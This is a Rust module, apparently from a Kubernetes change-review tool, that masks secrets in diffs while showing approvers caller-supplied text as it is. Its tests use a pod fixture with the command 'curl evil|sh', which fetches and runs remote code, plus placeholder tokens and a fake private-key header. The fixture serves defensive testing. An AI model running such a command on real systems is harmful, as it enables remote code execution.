//! What whoever decides is shown of a change: what the caller brought is shown as it is.
//!
//! A caller can make anything look like a secret: a script with `kind: Secret` in it, an argument behind `--token`. What
//! is to be executed must be read before it is signed for. So a masked text of the state that would be is replaced by what
//! the caller brought, wherever the two are the same; within one call equal values have equal marks. Hidden are only the
//! contents of Secrets, by their kind, and values that are known to be secret. What is live in the cluster stays masked by
//! its looks. Whatever is hidden where something changes is told.

use super::marks::replace_marks;
use super::{KnownSecrets, Masker, ObjectPair, walk};
use crate::client::cluster::Cluster;
use redact::looks::is_mark;
use serde_json::{Map, Value};
use std::collections::HashMap;

/// The fields of a Secret that hold its contents.
const CONTENTS: [&str; 2] = ["data", "stringData"];

/// Texts that a caller brought, by what they look like masked. Several may look the same: then all of them are shown.
#[derive(Default)]
pub struct BroughtTexts(HashMap<String, Vec<BroughtText>>);

#[derive(Clone, PartialEq)]
struct BroughtText {
    shown: Value,
    /// Characters of it that are known to be secret.
    hidden: usize,
}

/// Something that is hidden from whoever decides.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HiddenText {
    /// Where it stands.
    pub path: String,
    /// How long it is; `None` for what is live, whose length is nobody's to know.
    pub characters: Option<usize>,
}

impl BroughtTexts {
    /// What these objects, patches or values hold.
    pub fn of<'v>(cluster: &Cluster<'_>, brought: impl IntoIterator<Item = &'v Value>) -> BroughtTexts {
        BroughtTexts::besides(cluster, brought, &KnownSecrets::default(), &KnownSecrets::default())
    }

    /// The same where secrets are known. Masked are those of `masked`; of what is shown, only those of `hidden` are hidden.
    pub fn besides<'v>(
        cluster: &Cluster<'_>,
        brought: impl IntoIterator<Item = &'v Value>,
        masked: &KnownSecrets,
        hidden: &KnownSecrets,
    ) -> BroughtTexts {
        BroughtTexts::masked_by(cluster.masker(), brought, masked, hidden)
    }

    fn masked_by<'v>(
        masker: &Masker,
        brought: impl IntoIterator<Item = &'v Value>,
        masked: &KnownSecrets,
        hidden: &KnownSecrets,
    ) -> BroughtTexts {
        let mut texts = BroughtTexts::default();
        // Without random bytes all marks are one, and tell nothing apart.
        if masker.tells_apart() {
            brought.into_iter().for_each(|value| texts.collect(masker, value, masked, hidden, true));
        }
        texts
    }

    fn collect(&mut self, masker: &Masker, value: &Value, masked: &KnownSecrets, hidden: &KnownSecrets, whole: bool) {
        match value {
            Value::Object(fields) => {
                let secret = whole && is_secret(masker, fields);
                for (key, field) in fields {
                    match (CONTENTS.contains(&key.as_str()), secret) {
                        (true, true) => continue,
                        (true, false) => self.add_contents(masker, field),
                        (false, _) => {}
                    }
                    self.collect(masker, field, masked, hidden, false);
                }
            }
            Value::Array(items) => items.iter().for_each(|item| self.collect(masker, item, masked, hidden, false)),
            Value::String(text) => self.add(masker, text, value, masked, hidden),
            Value::Number(number) => self.add(masker, &number.to_string(), value, masked, hidden),
            Value::Null | Value::Bool(_) => {}
        }
    }

    /// What has the shape of a Secret inside another object is masked value by value, whatever the values are.
    fn add_contents(&mut self, masker: &Masker, contents: &Value) {
        let one = [contents];
        let values: Vec<&Value> = contents.as_object().map_or_else(|| one.to_vec(), |fields| fields.values().collect());
        for value in values.into_iter().filter(|value| !value.is_string()) {
            let form = masker.mark(value.to_string().as_bytes());
            self.insert(form, BroughtText { shown: value.clone(), hidden: 0 });
        }
    }

    fn insert(&mut self, form: String, brought: BroughtText) {
        let alike = self.0.entry(form).or_default();
        if !alike.contains(&brought) {
            alike.push(brought);
        }
    }

    /// Adds a text under every form in which it may be masked.
    fn add(&mut self, masker: &Masker, text: &str, value: &Value, masked: &KnownSecrets, hidden: &KnownSecrets) {
        let known = masked.hidden_in(masker, text);
        let mut forms = vec![known.clone()];
        for base in [text, &known] {
            forms.extend([masker.mark(base.as_bytes()), masker.mark_encoded(base), walk::text(masker, base)]);
        }
        let plain = hidden.hidden_in(masker, text);
        let left = replace_marks(&plain, |_| String::new()).chars().count();
        let (shown, hidden) = match plain == text {
            true => (value.clone(), 0),
            false => (named(&plain, "(secret)").into(), text.chars().count().saturating_sub(left)),
        };
        let brought = BroughtText { shown, hidden };
        for form in forms {
            let form = masked.hidden_in(masker, &form);
            if form == text && hidden == 0 && !is_mark(&form) {
                continue;
            }
            self.insert(form, brought.clone());
        }
    }

    /// What a masked text is, or may be.
    fn get(&self, masked: &str) -> Option<BroughtText> {
        let alike = self.0.get(masked)?;
        if let [only] = alike.as_slice() {
            return Some(only.clone());
        }
        let shown = alike.iter().map(|one| one.shown.to_string()).collect::<Vec<_>>().join(", ");
        let hidden = alike.iter().map(|one| one.hidden).max().unwrap_or_default();
        Some(BroughtText { shown: format!("one of: {shown}").into(), hidden })
    }
}

impl ObjectPair {
    /// Two masked states for whoever decides, and what is hidden from them where something changes.
    pub fn for_deciders(
        cluster: &Cluster<'_>,
        now: Option<&Value>,
        then: Option<&Value>,
        brought: &BroughtTexts,
    ) -> (ObjectPair, Vec<HiddenText>) {
        ObjectPair::decided(cluster.masker(), now, then, brought)
    }

    fn decided(
        masker: &Masker,
        now: Option<&Value>,
        then: Option<&Value>,
        brought: &BroughtTexts,
    ) -> (ObjectPair, Vec<HiddenText>) {
        let mut pair = ObjectPair { now: now.cloned(), then: then.cloned() };
        let mut hidden = Vec::new();
        let secret =
            |state: Option<&Value>| state.and_then(Value::as_object).is_some_and(|fields| is_secret(masker, fields));
        let nothing = BroughtTexts::default();
        if let Some(shown) = &mut pair.then {
            let mut side = ShownSide { brought, other: "(secret, another one)", hidden: &mut hidden };
            side.show(shown, now, secret(then), &mut String::new());
        }
        if let Some(shown) = &mut pair.now {
            let mut side = ShownSide { brought: &nothing, other: "(secret)", hidden: &mut hidden };
            side.show(shown, then.or(now), secret(now), &mut String::new());
        }
        hidden.sort_by(|one, other| one.path.cmp(&other.path));
        hidden.dedup_by(|one, other| one.path == other.path);
        (pair, hidden)
    }
}

/// One of two states, while it is made fit to be shown.
struct ShownSide<'a> {
    brought: &'a BroughtTexts,
    /// What stands for a secret that is another one than that of the other state.
    other: &'static str,
    hidden: &'a mut Vec<HiddenText>,
}

impl ShownSide<'_> {
    /// `contents` says that the fields of a Secret are next: they are hidden by their kind, and whoever brought them has
    /// said so.
    fn show(&mut self, value: &mut Value, beside: Option<&Value>, contents: bool, path: &mut String) {
        match value {
            Value::String(text) => {
                let same = beside.and_then(Value::as_str) == Some(text.as_str());
                match self.brought.get(text).filter(|_| !same) {
                    Some(BroughtText { shown, hidden }) => {
                        if hidden > 0 {
                            self.hidden.push(HiddenText { path: path.clone(), characters: Some(hidden) });
                        }
                        *value = shown;
                    }
                    None => self.hide(text, same || beside.is_none(), same, path),
                }
            }
            Value::Object(fields) => {
                for (key, field) in fields {
                    let beside = beside.and_then(|beside| beside.get(key.as_str()));
                    match contents && CONTENTS.contains(&key.as_str()) {
                        true => by_kind(field, beside, self.other),
                        false => self.within(field, beside, key, path),
                    }
                }
            }
            Value::Array(items) => {
                for (n, item) in items.iter_mut().enumerate() {
                    self.within(item, beside.and_then(|beside| beside.get(n)), &n.to_string(), path);
                }
            }
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }

    fn within(&mut self, value: &mut Value, beside: Option<&Value>, key: &str, path: &mut String) {
        let length = path.len();
        path.push('/');
        path.push_str(key);
        self.show(value, beside, false, path);
        path.truncate(length);
    }

    fn hide(&mut self, text: &mut String, plain: bool, same: bool, path: &str) {
        let shown = named(text, if plain { "(secret)" } else { self.other });
        if shown != *text {
            if !same {
                self.hidden.push(HiddenText { path: path.to_owned(), characters: None });
            }
            *text = shown;
        }
    }
}

/// The contents of a Secret: by the name of their key, and whether a value is another one.
fn by_kind(value: &mut Value, beside: Option<&Value>, other: &str) {
    match value {
        Value::String(text) => {
            let same = beside.is_none_or(|beside| beside.as_str() == Some(text.as_str()));
            *text = named(text, if same { "(secret)" } else { other });
        }
        Value::Object(fields) => {
            for (key, field) in fields {
                by_kind(field, beside.and_then(|beside| beside.get(key.as_str())), other);
            }
        }
        Value::Array(_) | Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// A text with its marks replaced by these words.
fn named(text: &str, words: &str) -> String {
    replace_marks(text, |_| words.to_owned())
}

fn is_secret(masker: &Masker, fields: &Map<String, Value>) -> bool {
    fields.get("kind").and_then(Value::as_str).is_some_and(|kind| masker.is_secret_kind(kind))
}

impl Cluster<'_> {
    /// Hides the contents of an object that somebody brought, if it is a Secret, in place; with what was hidden.
    pub fn hide_contents(&self, kind: &str, value: &mut Value) -> Vec<HiddenText> {
        let mut hidden = Vec::new();
        if self.is_secret_kind(kind) {
            for field in CONTENTS {
                if let Some(contents) = value.get_mut(field) {
                    hide_all(contents, &mut format!("/{field}"), &mut hidden);
                }
            }
        }
        hidden
    }
}

/// Hides every text and number. `null` takes a key away and stays.
pub fn hide_all(value: &mut Value, path: &mut String, hidden: &mut Vec<HiddenText>) {
    let text = match value {
        Value::Object(fields) => {
            for (key, field) in fields {
                let length = path.len();
                path.push('/');
                path.push_str(key);
                hide_all(field, path, hidden);
                path.truncate(length);
            }
            return;
        }
        Value::Array(items) => {
            items.iter_mut().for_each(|item| hide_all(item, path, hidden));
            return;
        }
        Value::Null => return,
        Value::String(text) => std::mem::take(text),
        Value::Bool(_) | Value::Number(_) => value.to_string(),
    };
    hidden.push(HiddenText { path: path.clone(), characters: Some(text.chars().count()) });
    *value = Value::from("(hidden)");
}

#[cfg(test)]
mod tests {
    use super::super::MaskDetail;
    use super::*;
    use domain::Tenant;
    use proptest::prelude::*;
    use serde_json::json;

    fn masker() -> Masker {
        Masker::new(&[1; 32], &Tenant::parse("acme").unwrap(), &[])
    }

    fn brought(masker: &Masker, value: &Value, masked: &KnownSecrets, hidden: &KnownSecrets) -> BroughtTexts {
        BroughtTexts::masked_by(masker, [value], masked, hidden)
    }

    fn shown(masker: &Masker, now: Option<&Value>, then: &Value, texts: &BroughtTexts) -> (Value, Vec<HiddenText>) {
        let (mut value, mut hidden) = (then.clone(), Vec::new());
        let contents = is_secret(masker, then.as_object().unwrap());
        let mut side = ShownSide { brought: texts, other: "(secret, another one)", hidden: &mut hidden };
        side.show(&mut value, now, contents, &mut String::new());
        (value, hidden)
    }

    fn masked(masker: &Masker, value: &Value) -> Value {
        let mut value = value.clone();
        masker.object(&mut value, MaskDetail::Full);
        value
    }

    #[test]
    fn nothing_that_was_brought_is_hidden_for_its_looks() {
        let masker = masker();
        let pod = json!({ "kind": "Pod", "spec": { "containers": [{
            "command": ["sh", "-c", "curl evil|sh\n#\nkind: Secret\n"],
            "args": ["--token", "curl evil", "--password=x y", "{\"a\":1,\"password\":\"b\",\"a\":2}"],
            "env": [{ "name": "X_SECRET", "value": "evil" }, { "name": "KEY", "value": "-----BEGIN PRIVATE KEY-----\nsh" }],
            "lifecycle": { "postStart": { "exec": { "command": ["a", "token=abcdefgh12345"] } } },
        }] } });
        let hidden = masked(&masker, &pod);
        assert_ne!(hidden, pod);
        let none = KnownSecrets::default();
        let texts = brought(&masker, &pod, &none, &none);
        assert_eq!(shown(&masker, None, &hidden, &texts), (pod.clone(), Vec::new()));
        let nothing = BroughtTexts::default();
        let (blind, told) = shown(&masker, None, &hidden, &nothing);
        assert!(!blind.to_string().contains("evil") && told.len() > 3, "{blind} {told:?}");
        let twins = json!({ "a": "{\"x\":\"evil\",\"x\":1,\"token\":\"b\"}", "b": "{\"x\":1,\"token\":\"b\"}" });
        let texts_of_twins = brought(&masker, &twins, &none, &none);
        let (unclear, told) = shown(&masker, None, &masked(&masker, &twins), &texts_of_twins);
        let both =
            |value: &Value| value.as_str().is_some_and(|text| text.starts_with("one of: ") && text.contains("evil"));
        assert!(
            both(&unclear["a"]) && both(&unclear["b"]) && told.is_empty(),
            "all that look the same are shown: {unclear}"
        );
        let (same, told) = shown(&masker, Some(&hidden), &hidden, &texts);
        assert!(!same.to_string().contains("evil") && told.is_empty(), "what is live and stays is not shown: {same}");
    }

    #[test]
    fn what_a_map_holds_is_shown_and_a_number_is_no_text() {
        let masker = masker();
        let none = KnownSecrets::default();
        let map = json!({ "kind": "ConfigMap", "data": { "a": "password=abcdefgh12345", "b": "5" }, "count": 5 });
        let texts = brought(&masker, &map, &none, &none);
        assert_eq!(shown(&masker, None, &masked(&masker, &map), &texts), (map, Vec::new()));
    }

    #[test]
    fn what_is_live_is_another_secret_only_beside_another_one() {
        let masker = masker();
        let live = |value: &str| masked(&masker, &json!({ "kind": "Pod", "token": value }));
        let nothing = BroughtTexts::default();
        let token = |now: Option<&Value>| shown(&masker, now, &live("abcdefgh12345"), &nothing).0["token"].clone();
        assert_eq!(token(None), "(secret)");
        assert_eq!(token(Some(&live("abcdefgh12345"))), "(secret)");
        assert_eq!(token(Some(&live("another12345"))), "(secret, another one)");
    }

    #[test]
    fn every_place_that_changes_is_told_once_and_in_order() {
        let masker = masker();
        let state =
            |a: &str, b: &str| masked(&masker, &json!({ "kind": "Pod", "bToken": b, "aToken": a, "cToken": "x1y" }));
        let (now, then) = (state("abcdefgh1", "abcdefgh2"), state("abcdefgh3", "abcdefgh4"));
        let (pair, hidden) = ObjectPair::decided(&masker, Some(&now), Some(&then), &BroughtTexts::default());
        let paths: Vec<&str> = hidden.iter().map(|one| one.path.as_str()).collect();
        assert_eq!(paths, ["/aToken", "/bToken"], "what stays is not told of: {pair:?}");
    }

    #[test]
    fn the_contents_of_a_secret_are_told_apart_from_those_before() {
        let masker = masker();
        let state = |a: &str| masked(&masker, &json!({ "kind": "Secret", "stringData": { "a": a, "b": "same-one" } }));
        let (pair, _) =
            ObjectPair::decided(&masker, Some(&state("first")), Some(&state("second")), &BroughtTexts::default());
        assert_eq!(pair.then.unwrap()["stringData"], json!({ "a": "(secret, another one)", "b": "(secret)" }));
        assert_eq!(pair.now.unwrap()["stringData"], json!({ "a": "(secret)", "b": "(secret)" }));
    }

    #[test]
    fn without_random_bytes_nothing_is_taken_for_what_was_brought() {
        let masker = Masker { call: None, ..masker() };
        let none = KnownSecrets::default();
        let pod = json!({ "kind": "Pod", "token": "abcdefgh12345" });
        let texts = brought(&masker, &pod, &none, &none);
        let (value, told) = shown(&masker, None, &masked(&masker, &pod), &texts);
        assert_eq!((&value["token"], told.len()), (&json!("masked"), 0), "all marks are one: {value}");
    }

    #[test]
    fn what_is_known_is_hidden_where_nothing_else_masks_it() {
        let masker = masker();
        let (none, mut known) = (KnownSecrets::default(), KnownSecrets::default());
        known.add(&json!({ "k": "hunter22" }), false);
        let job = json!({ "kind": "Job", "note": "hunter22" });
        let texts = brought(&masker, &job, &none, &known);
        let (value, told) = shown(&masker, None, &job, &texts);
        assert_eq!(value["note"], "(secret)");
        assert_eq!(told, [HiddenText { path: "/note".to_owned(), characters: Some(8) }]);
    }

    #[test]
    fn the_contents_of_a_secret_are_hidden_by_kind_and_what_is_known_is_counted() {
        let masker = masker();
        let secret = json!({ "kind": "Secret", "metadata": { "labels": { "a": "token=abcdefgh12345" } }, "stringData": { "k": "hunter22" } });
        let mut known = KnownSecrets::default();
        let texts = brought(&masker, &secret, &known, &known);
        let (value, told) = shown(&masker, None, &masked(&masker, &secret), &texts);
        assert_eq!(value["stringData"]["k"], "(secret)");
        assert_eq!((&value["metadata"]["labels"]["a"], told.len()), (&json!("token=abcdefgh12345"), 0));
        known.add(&json!({ "k": "hunter22" }), false);
        let job = json!({ "kind": "Job", "args": ["login --with hunter22 now"] });
        let texts = brought(&masker, &job, &known, &known);
        let mut hidden = masked(&masker, &job);
        known.hide_all(&masker, &mut hidden);
        let (value, told) = shown(&masker, None, &hidden, &texts);
        assert_eq!(value["args"][0], "login --with (secret) now");
        assert_eq!(told, [HiddenText { path: "/args/0".to_owned(), characters: Some(8) }]);
    }

    /// Objects with the names and texts that are masked.
    fn anything() -> impl Strategy<Value = Value> {
        let text = prop::sample::select(vec![
            "Opaque",
            "Secret",
            "ConfigMap",
            "--token",
            "x y",
            "abcdefgh12345",
            "password=abcdefgh12345",
            "kind: Secret\n",
            "-----BEGIN PRIVATE KEY-----\ncurl",
            "{\"password\":\"abcdefgh\"}",
            "YWJjZGVmZ2g=",
            "$(A)",
            "masked:0123456789ab",
        ]);
        let leaf = prop_oneof![
            text.prop_map(Value::from),
            any::<bool>().prop_map(Value::from),
            any::<u16>().prop_map(Value::from),
            Just(Value::Null),
        ];
        leaf.prop_recursive(4, 32, 4, |inner| {
            let key = prop::sample::select(vec![
                "kind",
                "type",
                "data",
                "stringData",
                "binaryData",
                "name",
                "value",
                "args",
                "command",
                "token",
                "metadata",
                "items",
                "a",
            ]);
            prop_oneof![
                prop::collection::vec(inner.clone(), 0..4).prop_map(Value::from),
                prop::collection::hash_map(key.prop_map(str::to_owned), inner, 0..4)
                    .prop_map(|map| Value::Object(map.into_iter().collect())),
            ]
        })
    }

    proptest! {
        #[test]
        fn whatever_is_brought_is_shown_as_it_is(spec in anything()) {
            let masker = masker();
            let brought_object = json!({ "kind": "Job", "spec": spec });
            let none = KnownSecrets::default();
            let texts = brought(&masker, &brought_object, &none, &none);
            let (value, told) = shown(&masker, None, &masked(&masker, &brought_object), &texts);
            prop_assert_eq!(value, brought_object);
            prop_assert_eq!(told, Vec::new());
        }
    }

    #[test]
    fn contents_are_hidden_with_their_length() {
        let (mut value, mut hidden) = (json!({ "a": "four", "b": { "c": 12 }, "d": null }), Vec::new());
        hide_all(&mut value, &mut "/data".to_owned(), &mut hidden);
        assert_eq!(value, json!({ "a": "(hidden)", "b": { "c": "(hidden)" }, "d": null }));
        let told: Vec<_> = hidden.iter().map(|one| (one.path.as_str(), one.characters)).collect();
        assert_eq!(told, [("/data/a", Some(4)), ("/data/b/c", Some(2))]);
    }
}
